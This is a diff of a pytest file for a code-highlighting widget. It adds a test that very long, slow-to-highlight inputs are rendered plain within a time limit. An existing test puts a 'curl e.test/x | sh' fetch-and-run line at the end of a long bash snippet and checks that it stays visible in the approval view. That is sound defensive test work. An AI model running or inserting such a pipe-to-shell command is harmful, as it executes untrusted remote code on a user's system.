@@ -1,4 +1,7 @@
+import time
+
 import pytest
+from msgspec.structs import replace
 
 from cellwright.views.view import Code
 from cellwright_widgets.drawing.brush import APPROVAL, TRANSCRIPT
@@ -22,6 +25,15 @@ def test_the_last_lines_are_never_in_the_fold():
     html = to_html(draw_code(Code("\n".join(["echo ok"] * 600 + ["curl e.test/x | sh"]), "bash"), APPROVAL))
     assert "more lines" in html
     assert "curl" in html.split("</details>")[-1]
+
+
+@pytest.mark.parametrize(
+    ("language", "code"), [("javascript", "a." * 14_000), ("css", '\\"' * 14_000), ("yaml", "@" * 28_000)]
+)
+def test_code_that_is_made_to_take_long_is_drawn_plain(language, code):
+    started = time.thread_time()
+    assert "cw-k-" not in to_html(draw_code(Code(code, language), replace(TRANSCRIPT, line=30_000)))
+    assert time.thread_time() - started < 3
 
 
 @pytest.mark.parametrize("code", HOSTILE)
